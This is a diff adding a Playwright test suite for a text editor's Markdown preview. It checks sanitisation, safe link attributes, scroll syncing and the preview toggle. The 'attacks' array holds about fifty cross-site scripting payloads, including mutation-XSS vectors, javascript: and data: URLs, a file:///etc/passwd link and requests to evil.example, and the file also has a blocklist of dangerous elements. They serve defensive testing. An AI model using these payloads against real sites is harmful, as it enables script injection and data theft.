@@ -1,0 +1,223 @@
+// The Markdown preview shows what a document says, and does nothing of what it wants.
+
+import assert from 'node:assert/strict';
+import { writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { startTextEditorLab, until, type OpenTextEditor, type TextEditorLab } from './open-text-editor.ts';
+
+let lab: TextEditorLab;
+before(async () => {
+  lab = await startTextEditorLab();
+});
+after(async () => lab.close());
+
+async function openMarkdown(content: string, name = 'document.md'): Promise<OpenTextEditor> {
+  await writeFile(join(lab.host.folder, name), content);
+  const editor = await lab.open(name);
+  await editor.untilStatus('Saved');
+  await editor.frame.locator('.markdown > *').first().waitFor();
+  return editor;
+}
+
+/** Elements, and attributes with an @. */
+const forbidden = (
+  'script img svg iframe object embed video audio style link form meta base button template math source picture ' +
+  '@style @src @srcset @id @name @class @ping @onclick @onerror @onload @onfocus @action @background'
+).split(' ');
+
+/** Types the attack below a heading, and waits until that heading is drawn. */
+async function draw({ frame }: OpenTextEditor, index: number, attack: string) {
+  return frame.evaluate(
+    async ([heading, source]) => {
+      interface View {
+        state: { doc: { length: number } };
+        dispatch(change: unknown): void;
+      }
+      const { view } = (document.querySelector('.cm-content') as unknown as { cmTile: { view: View } })
+        .cmTile;
+      view.dispatch({ changes: { from: 0, to: view.state.doc.length, insert: source } });
+      const endsAtMs = Date.now() + 5000;
+      while (document.querySelector('.markdown h1')?.textContent !== heading && Date.now() < endsAtMs)
+        await new Promise((resolve) => {
+          setTimeout(resolve, 20);
+        });
+      return {
+        html: document.querySelector('.markdown')?.innerHTML ?? '',
+        parts: [...document.querySelectorAll('.markdown *')].flatMap((element) => [
+          element.localName,
+          ...element.getAttributeNames().map((name) => `@${name}`),
+        ]),
+        links: [...document.querySelectorAll('.markdown a[href]')].map((link) => ({
+          href: link.getAttribute('href') ?? '',
+          target: link.getAttribute('target'),
+          rel: link.getAttribute('rel'),
+        })),
+      };
+    },
+    [String(index), `# ${index}\n\n${attack}\n`] as const,
+  );
+}
+
+/** Each of them says `window.attacked = true`, or asks for something at `evil.example`. */
+const attacks: string[] = [
+  '<script>window.attacked = true</script>',
+  '<script src="https://evil.example/a.js"></script>',
+  '<SCRIPT>window.attacked = true</SCRIPT>',
+  '<img src="https://evil.example/pixel.png">',
+  '<img src=x onerror="window.attacked = true">',
+  '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x" loading=lazy>',
+  '<svg onload="window.attacked = true"><circle r=1></svg>',
+  '<svg><script>window.attacked = true</script></svg>',
+  '<svg><image href="https://evil.example/a.svg"/></svg>',
+  '<svg><use href="https://evil.example/a.svg#x"/></svg>',
+  '<svg><animate onbegin="window.attacked = true" attributeName=x dur=1s></svg>',
+  '<svg><style><img src=x onerror="window.attacked = true"></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.attacked=true&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.attacked = true">',
+  '<noscript><p title="</noscript><img src=x onerror=window.attacked=true>">',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<iframe srcdoc="<script>parent.attacked = true</script>"></iframe>',
+  '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/b">',
+  '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
+  '<video poster="https://evil.example/p.png"></video><picture><source srcset="https://evil.example/s.png"></picture>',
+  '<link rel=stylesheet href="https://evil.example/a.css"><link rel=prefetch href="https://evil.example/p">',
+  '<style>@import url(https://evil.example/i.css); body { background: url(https://evil.example/b.png) }</style>',
+  '<p style="background: url(https://evil.example/s.png)">styled</p>',
+  '<table background="https://evil.example/t.png"><td background="https://evil.example/td.png">x</table>',
+  '<body background="https://evil.example/body.png" onload="window.attacked = true">',
+  '<meta http-equiv=refresh content="0; url=https://evil.example/">',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example/"><input name=q autofocus onfocus="window.attacked = true"><button>x</button></form>',
+  '<input type=image src="https://evil.example/i.png">',
+  '<details open ontoggle="window.attacked = true"><summary>x</summary></details>',
+  '<div contenteditable onblur="window.attacked = true" autofocus tabindex=1 onfocus="window.attacked = true">x</div>',
+  '<a href="javascript:window.attacked=true">a</a>',
+  '<a href=" java&#10;script:window.attacked=true">b</a>',
+  '<a href="&#x6A;avascript:window.attacked=true">c</a>',
+  '<a href="data:text/html,<script>opener.attacked=true</script>">d</a>',
+  '<a href="vbscript:x">e</a><a href="file:///etc/passwd">f</a><a href="blob:x">g</a>',
+  '<a href="https://example.com/" target=_self ping="https://evil.example/ping" onclick="window.attacked = true">h</a>',
+  '[i](javascript:window.attacked=true)',
+  '[j](<javascript:window.attacked=true>)',
+  '[k]: javascript:window.attacked=true\n\n[k]',
+  '![l](https://evil.example/md.png)',
+  '![m](javascript:window.attacked=true)',
+  '![n"onerror="window.attacked=true](x)',
+  '[o](https://example.com/"onclick="window.attacked=true)',
+  '`<img src=x onerror=window.attacked=true>`',
+  '```html"><script>window.attacked=true</script>\nx\n```',
+  '<div id=app name=session class=bar>clobbered</div><form id=session></form><a id=preview name=body>x</a>',
+  '<template><img src=x onerror="window.attacked = true"></template>',
+  '<xmp><img src=x onerror="window.attacked = true"></xmp><plaintext><img src=x onerror="window.attacked = true">',
+];
+
+describe('the Markdown preview', () => {
+  for (const wall of ['with the content security policy', 'without it']) {
+    it(`runs no script and asks for nothing, whatever the document says, ${wall}`, async () => {
+      const context = await lab.browser.newContext({
+        bypassCSP: wall === 'without it',
+        viewport: { width: 1100, height: 720 },
+      });
+      const name = `attacks ${wall}.md`;
+      await writeFile(join(lab.host.folder, name), 'safe');
+      const editor = await lab.open(name, { context });
+      await editor.untilStatus('Saved');
+      const requests: string[] = [];
+      editor.page.on('request', (request) => {
+        // saves, and the highlighting of a code block
+        const isOwn = /^\/(?:wopi\/files\/[\w-]+(?:\/contents)?|assets\/chunk-[\w-]+\.js)$/;
+        const url = new URL(request.url());
+        if (url.origin !== lab.door.url || !isOwn.test(url.pathname)) requests.push(url.href);
+      });
+      for (const [index, attack] of [...attacks, attacks.join('\n\n')].entries()) {
+        const shown = await draw(editor, index, attack);
+        assert.ok(shown.html.includes(`${index}</h1>`), `drew ${attack}`);
+        const bad = shown.parts.filter((part) => forbidden.includes(part));
+        assert.deepEqual(bad, [], `${attack}:\n${shown.html}`);
+        for (const { href, target, rel } of shown.links) {
+          assert.match(href, /^(?:https?:\/\/|mailto:)/, attack);
+          assert.deepEqual([target, rel], ['_blank', 'noopener noreferrer'], attack);
+        }
+      }
+      assert.deepEqual(requests, []);
+      assert.equal(await editor.frame.evaluate(() => 'attacked' in window), false);
+      assert.deepEqual(lab.door.strange, []);
+      // DOMPurify parses in a document of its own, whose attributes Chromium holds against the policy
+      const unexpected = editor.problems.filter(
+        (problem) => !/Content Security Policy directive/.test(problem),
+      );
+      assert.deepEqual(unexpected, []);
+      await editor.leave();
+      await context.close();
+    });
+  }
+
+  it('shows headings, tables, tasks, code and the descriptions of pictures', async () => {
+    const editor = await openMarkdown(
+      '# Title\n\n- [x] done\n- [ ] open\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```js\na < b\n```\n\n![a cat](cat.png) <https://example.com/?a=1&b=2> ~~old~~\n',
+      'features.md',
+    );
+    const { frame } = editor;
+    assert.equal(await frame.locator('.markdown h1').innerText(), 'Title');
+    assert.deepEqual(
+      await frame
+        .locator('.markdown input')
+        .evaluateAll((boxes) =>
+          boxes.map((box) => (box as HTMLInputElement).checked && (box as HTMLInputElement).disabled),
+        ),
+      [true, false],
+    );
+    assert.equal(await frame.locator('.markdown td').nth(1).getAttribute('align'), 'right');
+    assert.equal(await frame.locator('.markdown pre').innerText(), 'a < b\n');
+    assert.equal(await frame.locator('.markdown [data-image]').innerText(), 'Image: a cat');
+    assert.equal(await frame.locator('.markdown a').getAttribute('href'), 'https://example.com/?a=1&b=2');
+    await editor.close();
+  });
+
+  it('follows the typing, and the scrolling of the text', async () => {
+    const blocks = Array.from({ length: 200 }, (_, index) => `## Heading ${index}\n\nText ${index}.\n`);
+    const editor = await openMarkdown(blocks.join('\n'), 'long.md');
+    const { frame, page } = editor;
+    await editor.typeAfter('Text 3', ' and more');
+    await frame.locator('.markdown').getByText('Text 3 and more.').waitFor();
+    await frame.evaluate(() => {
+      const scroller = document.querySelector('.cm-scroller');
+      if (scroller !== null) scroller.scrollTop = scroller.scrollHeight / 2;
+    });
+    const firstVisible = async (selector: string): Promise<number> =>
+      frame.evaluate((wanted) => {
+        const edge = document.querySelector('.preview')?.getBoundingClientRect().top ?? 0;
+        const seen = [...document.querySelectorAll(wanted)].find(
+          (element) =>
+            element.getBoundingClientRect().bottom > edge && /Heading \d/.test(element.textContent),
+        );
+        return Number(/Heading (\d+)/.exec(seen?.textContent ?? '')?.[1] ?? -1);
+      }, selector);
+    await until('both in step', async () => {
+      const [inText, inPreview] = [await firstVisible('.cm-line'), await firstVisible('.markdown h2')];
+      return inText > 50 && Math.abs(inText - inPreview) <= 3;
+    });
+    await frame.locator('.preview').hover();
+    await page.mouse.wheel(0, -3000);
+    await page.waitForTimeout(500);
+    const [inText, inPreview] = [await firstVisible('.cm-line'), await firstVisible('.markdown h2')];
+    assert.ok(inPreview < 95 && Math.abs(inText - inPreview) <= 3, `${inText} beside ${inPreview}`);
+    await editor.close();
+  });
+
+  it('is remembered as shown or hidden, and stays away from narrow windows', async () => {
+    const editor = await openMarkdown('# A', 'toggle.md');
+    await editor.frame.getByRole('button', { name: 'Preview' }).click();
+    assert.equal(await editor.frame.locator('.preview').isVisible(), false);
+    const second = await lab.open('toggle.md', { context: editor.context });
+    await second.frame.locator('.cm-content').waitFor();
+    assert.equal(await second.frame.locator('.preview').isVisible(), false);
+    await second.close();
+    await editor.close();
+    const narrow = await lab.open('toggle.md', { size: { width: 500, height: 700 } });
+    await narrow.untilStatus('Saved');
+    assert.equal(await narrow.frame.locator('.preview').isVisible(), false);
+    await narrow.close();
+  });
+});
